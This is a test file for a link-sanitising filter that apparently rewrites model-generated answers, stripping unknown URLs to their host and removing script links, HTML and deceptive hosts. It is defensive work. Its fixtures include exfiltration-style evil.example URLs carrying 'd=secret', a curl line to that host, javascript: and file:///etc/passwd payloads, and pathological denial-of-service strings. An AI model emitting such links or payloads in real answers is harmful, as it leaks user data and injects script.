"""The link policy: invented URLs, active links, deceptive hosts."""

import time
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pincite.query.generate.link_policy import LinkPolicy, host_of
from pincite.query.generate.stream_filter import StreamFilter

GIVEN = "Docs: https://docs.example/a_(b)?x=1, <https://k.example/x>. Mirror (www.w.example)."
KNOWN = LinkPolicy.allowing([GIVEN]).allowed


def shown(text: str, *cuts: int) -> tuple[str, tuple[str, ...]]:
    policy = LinkPolicy(KNOWN)
    cleaner = StreamFilter(policy=policy)
    edges = [0, *cuts, len(text)]
    said = "".join([*(cleaner.feed(text[start:end]) for start, end in pairwise(edges)), cleaner.close()])
    return said, policy.warnings


CASES = [
    ("Read [this](https://k.example/x).", "Read [this (k.example)](https://k.example/x)."),
    ("Read [k.example](https://k.example/x).", "Read [k.example](https://k.example/x)."),
    ("[bank.example](https://k.example/x)", "[bank.example (k.example)](https://k.example/x)"),
    ("[x](https://docs.example/a_(b)?x=1 'y')", "[x (docs.example)](https://docs.example/a_%28b%29?x=1)"),
    (
        "It is at https://k.example/x, see (https://k.example/x)[Source 1].",
        "It is at https://k.example/x, see (https://k.example/x) [Source 1].",
    ),
    ("[x](https://k.example/x?d=secret)", "x (k.example)"),
    ("[x](https://evil.example/?d=secret) and https://evil.example/?d=secret.", "x (evil.example) and evil.example."),
    ("<https://evil.example/?d=secret> or www.evil.example/?d=secret", "evil.example or evil.example"),
    (
        'https://k.example/x"secret and https://k.example/x`secret`',
        'https://k.example/x" secret and https://k.example/x `secret`',
    ),
    ("https://k.example@evil.example/x [k](https://k.example@evil.example/x)", "evil.example k (evil.example)"),
    ("[a](https://\u0430pple.example/x)", "a (xn--pple-43d.example)"),
    ("[a](javascript:alert(1)) [b](data:text/html,x) [c](jav&#97;script:x) [d](file:///etc/passwd)", "a b c d"),
    ("<javascript:alert(1)> and javascript:alert(1)", "< javascript :alert(1)> and javascript :alert(1)"),
    ("[x](https://www.evil.example/?d=secret)", "x (evil.example)"),
    ("<a href='https://evil.example/?d=1'>x</a>", "x</a>"),
    ("a <b and c=d> e", "a < b and c=d> e"),
    ("<!-- hidden --> <?x?>", "< !-- hidden --> < ?x?>"),
    ("[x][r]\n\n[r]: https://evil.example/?d=secret", "[x][r]\n\n[r] : evil.example"),
    ("[x][r]\n\n[r]:\n  javascript:alert(1)", "[x][r]\n\n[r] :\n  javascript :alert(1)"),
    ("[Source 1]: five days carry over.", "[Source 1]: five days carry over."),
    ("[Source 1](https://evil.example/x) says so", "[Source 1] says so"),
    ("f[x](y) and [rules](/rules)", "fx (y) and rules (/rules)"),
    ("[a [b](https://evil.example/x) c](https://k.example/x)", "[a b (evil.example) c] (https://k.example/x)"),
    ("[a\nb](https://k.example/x)", "[a\nb] (https://k.example/x)"),
    ("Try `curl https://evil.example/?d=secret`", "Try `curl evil.example`"),
    ("$\\href{https://evil.example/?d=1}{x}$", "$\\ href{evil.example }{x}$"),
    ("```mermaid\nclick A href 'https://evil.example'\n```", "```text\nclick A href 'https://evil.example'\n```"),
    ("```{=html}\n<img src=x>\n```", "```text\n<img src=x>\n```"),
    ('```python title="a.py"\nx[1](2)\n```', '```python title="a.py"\nx[1](2)\n```'),
    ("ask a@b.example or <a@b.example>", "ask a@b.example or <a@b.example>"),
]


@pytest.mark.parametrize(("text", "left"), CASES)
def test_links_say_where_they_lead_and_made_up_addresses_carry_nothing(text: str, left: str) -> None:
    assert shown(text)[0] == left


@pytest.mark.parametrize("text", [text for text, _ in CASES])
def test_it_is_the_same_wherever_the_text_is_cut(text: str) -> None:
    whole = shown(text)
    assert shown(text, *range(1, len(text))) == whole
    for cut in range(len(text)):
        assert shown(text, cut) == whole


@given(st.lists(st.sampled_from(CASES).map(lambda case: case[0]), min_size=2, max_size=4), st.data())
@settings(max_examples=40, deadline=None)
def test_neither_neighbours_nor_several_cuts_change_that(texts: list[str], data: st.DataObject) -> None:
    text = data.draw(st.sampled_from(["", " ", "\n", "\n\n", "`", "["])).join(texts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    said, warnings = shown(text, *cuts)
    assert (said, warnings) == shown(text)
    if "```" not in text:  # in a fence everything is text
        assert "secret" not in "".join(part for part in said.split() if "://" in part)


def test_removed_links_and_images_are_in_warnings() -> None:
    assert shown("All is well at https://k.example/x. [Source 1]")[1] == ()
    assert shown("![x](https://e.example) <img src=x> [y](javascript:x) https://e.example")[1] == (
        "an image was removed from the answer",
        "HTML was removed from the answer",
        "a link that leads to no web page was removed from the answer",
        "a URL that is in no source was cut to its host",
    )


def test_a_part_of_a_known_address_is_not_known() -> None:
    assert "https://docs.example/a_(b)?x=1" in KNOWN
    assert shown("https://docs.example/a_(b)?x= https://docs.example/")[0] == "docs.example docs.example"


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://User:pw@E.example:8/x", "e.example"),
        ("http://[::1]/x", "::1"),
        ("https://[", ""),
        ("mailto:a@b.example", ""),
        ("https://", ""),
        ("https://\u0430.example", "xn--80a.example"),
        ("https://a\u2024b.example/", "a.b.example"),
    ],
)
def test_a_host_is_what_the_address_leads_to(address: str, host: str) -> None:
    assert host_of(address) == host


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20000,
        "](" * 10000,
        "[a](" * 5000,
        "]:" * 10000,
        "https://" * 3000,
        "https://e/" + ")" * 20000,
        "[a](https://" * 2000,
    ],
)
def test_hostile_text_takes_no_time(text: str) -> None:
    started = time.thread_time()
    shown(text)
    LinkPolicy().clean(text)
    assert time.thread_time() - started < 2
